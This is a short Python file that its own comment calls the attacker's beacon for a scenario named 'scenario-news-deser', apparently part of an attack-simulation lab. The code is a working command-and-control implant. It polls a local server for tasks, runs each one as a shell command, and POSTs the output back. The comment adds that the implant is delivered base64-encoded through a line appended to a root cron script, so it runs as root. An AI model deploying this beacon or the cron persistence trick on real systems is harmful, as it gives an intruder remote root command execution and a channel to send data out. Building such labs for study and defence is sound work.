# The attacker's beacon of scenario-news-deser (python3 urllib, no socket
# code of its own): polls http://127.0.0.1:8001/task-N, runs each task with
# /bin/sh -c, POSTs the output to /out-N; "exit" or 150 s end it. It reaches
# the victim base64-encoded inside the line appended to the root cron script
# (echo <b64> | base64 -d | python3 -), so it runs as root.
import subprocess, time, urllib.request
b = 'http://127.0.0.1:8001/'
n, end = 1, time.time() + 150
while time.time() < end:
    try:
        t = urllib.request.urlopen(b + 'task-%d' % n, timeout=3).read().decode().strip()
    except Exception:
        time.sleep(2)
        continue
    if t == 'exit':
        break
    o = subprocess.run(t, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT).stdout
    try:
        urllib.request.urlopen(urllib.request.Request(b + 'out-%d' % n, data=o, method='POST'), timeout=5)
    except Exception:
        pass
    n += 1
